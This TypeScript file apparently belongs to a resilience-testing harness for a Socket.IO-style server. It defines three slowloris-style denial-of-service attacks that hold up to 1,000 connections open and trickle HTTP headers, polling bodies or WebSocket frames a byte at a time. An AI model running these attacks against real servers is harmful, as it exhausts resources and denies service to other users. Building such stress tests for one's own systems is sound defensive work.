import { frame, opcodes } from "../attackers/frames.ts";
import { head, openPolling } from "../attackers/http-peer.ts";
import { openWebSocket } from "../attackers/websocket-peer.ts";
import type { Attack } from "./attack.ts";

/** Connections that are held open by it. */
const CONNECTIONS = 1_000;
const OPENED_PER_SECOND = 400;
/** Bytes of all of them together. */
const BYTES_PER_SECOND = 1_000;

/** Picks one after another. */
function turns<Each>(all: ReadonlySet<Each>, act: (each: Each) => void): () => void {
  let rest: Iterator<Each> = all.values();
  return () => {
    let next = rest.next();
    if (next.done === true) {
      rest = all.values();
      next = rest.next();
    }
    if (next.done !== true) act(next.value);
  };
}

export const slowHeaders: Attack = {
  about: "up to 1,000 connections, 400 more a second, send their header a byte at a time",
  begin(field) {
    const open = new Set<ReturnType<typeof field.connect>>();
    field.keep(
      CONNECTIONS,
      OPENED_PER_SECOND,
      () => open.size,
      () => {
        const socket = field.connect();
        open.add(socket);
        field.count("connections");
        socket.write("GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nX-Slow: ");
        socket.on("close", () => {
          open.delete(socket);
          field.count("ended");
        });
        socket.resume();
      },
    );
    field.every(
      BYTES_PER_SECOND,
      turns(open, (socket) => socket.write("x")),
    );
  },
};

export const slowBodies: Attack = {
  about: "up to 1,000 polling sessions, 400 more a second, send a body a byte at a time",
  begin(field) {
    const open = new Set<ReturnType<typeof field.connect>>();
    const sending = new Set<ReturnType<typeof field.connect>>();
    field.keep(
      CONNECTIONS,
      OPENED_PER_SECOND,
      () => open.size,
      () => {
        const { socket } = openPolling(field, (peer, query) => {
          peer.socket.write(`${head(query, 100_000)}4`);
          sending.add(peer.socket);
        });
        open.add(socket);
        socket.on("close", () => {
          open.delete(socket);
          sending.delete(socket);
          field.count("ended");
        });
      },
    );
    field.every(
      BYTES_PER_SECOND,
      turns(sending, (socket) => socket.write("x")),
    );
  },
};

export const slowFrames: Attack = {
  about: "up to 1,000 WebSockets, 400 more a second, send a frame a byte at a time",
  begin(field) {
    const open = new Set<ReturnType<typeof field.connect>>();
    const sending = new Set<ReturnType<typeof field.connect>>();
    field.keep(
      CONNECTIONS,
      OPENED_PER_SECOND,
      () => open.size,
      () => {
        const socket = openWebSocket(field, (upgraded) => {
          upgraded.write(frame(opcodes.text, "4", { announcedBytes: 100_000 }));
          sending.add(upgraded);
        });
        open.add(socket);
        socket.on("close", () => {
          open.delete(socket);
          sending.delete(socket);
          field.count("ended");
        });
      },
    );
    field.every(
      BYTES_PER_SECOND,
      turns(sending, (socket) => socket.write("x")),
    );
  },
};
